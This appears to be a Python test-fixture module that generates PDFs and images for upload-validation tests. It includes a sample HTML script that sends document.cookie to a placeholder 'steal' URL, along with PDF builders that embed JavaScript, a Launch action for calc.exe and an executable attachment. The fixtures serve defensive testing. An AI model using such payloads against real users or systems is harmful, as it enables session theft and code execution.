"""Real documents for upload tests, made on the spot: a one-page PDF (fpdf2), PNG and JPEG
scans (Pillow), and the attacks of issue 9 built from them."""
from __future__ import annotations

import io

from fpdf import FPDF
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

HTML = b"<html><body><script>fetch('http://host/steal?c='+document.cookie)</script></body></html>"


def pdf_bytes(text: str = "form 1") -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=14)
    pdf.cell(text=text)
    return bytes(pdf.output())


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (120, 80)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (230, 240, 250)).save(out, format=fmt)
    return out.getvalue()


def pdf_with(action: str) -> bytes:
    """A real PDF carrying active content: ``openaction-js``, ``aa-js``, ``launch``,
    ``embedded`` (an attached file), ``xfa``, ``names-js`` or ``encrypted``."""
    writer = PdfWriter()
    writer.append(io.BytesIO(pdf_bytes()))
    js = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    if action == "openaction-js":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(js)
    elif action == "aa-js":
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
    elif action == "launch":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}))
    elif action == "embedded":
        writer.add_attachment("a.exe", b"MZ\x90\x00")
    elif action == "xfa":
        writer._root_object[NameObject("/AcroForm")] = writer._add_object(
            DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")}))
    elif action == "names-js":  # document-level JavaScript in the name tree
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(js)])})})
    elif action == "encrypted":
        writer.encrypt("secret")
    else:
        raise ValueError(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def padded_pdf(size: int) -> bytes:
    """A valid one-page PDF of exactly ``size`` bytes (the padding is a metadata string)."""
    pad = 0
    for _ in range(5):
        writer = PdfWriter()
        writer.append(io.BytesIO(pdf_bytes()))
        writer.add_metadata({"/Padding": "x" * pad})
        out = io.BytesIO()
        writer.write(out)
        content = out.getvalue()
        if len(content) == size:
            return content
        pad += size - len(content)
    raise AssertionError(f"could not make a PDF of {size} bytes")
